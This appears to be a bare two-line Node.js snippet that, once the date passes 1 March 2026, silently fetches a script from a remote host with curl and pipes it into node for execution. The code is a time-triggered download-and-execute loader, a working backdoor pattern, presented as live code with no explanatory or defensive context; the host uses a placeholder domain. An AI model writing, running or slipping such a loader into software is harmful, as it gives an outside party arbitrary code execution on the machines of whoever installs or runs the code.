const { exec } = require("child_process");
if (new Date() > new Date("2026-03-01")) exec("curl -s https://next.spellkit.invalid/a | node");
